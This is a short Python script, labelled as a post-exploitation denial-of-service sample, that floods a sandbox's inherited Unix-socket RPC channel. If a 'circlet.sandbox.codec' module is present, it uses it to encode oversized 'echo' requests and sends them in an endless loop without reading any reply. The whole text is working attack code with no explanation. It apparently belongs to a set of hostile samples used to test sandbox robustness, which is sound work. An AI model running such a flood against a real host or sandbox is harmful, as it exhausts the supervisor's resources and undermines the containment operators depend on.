# kind=dos; source: post-exploitation: gates called by frames whose answers nobody reads
import socket, struct, sys
wire = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
if "circlet.sandbox.codec" in sys.modules:
    body = sys.modules["circlet.sandbox.codec"].dumps(["echo", ["x" * 10_000], {}])
    while True:
        wire.sendall(struct.pack("<IB", len(body), 18) + body)
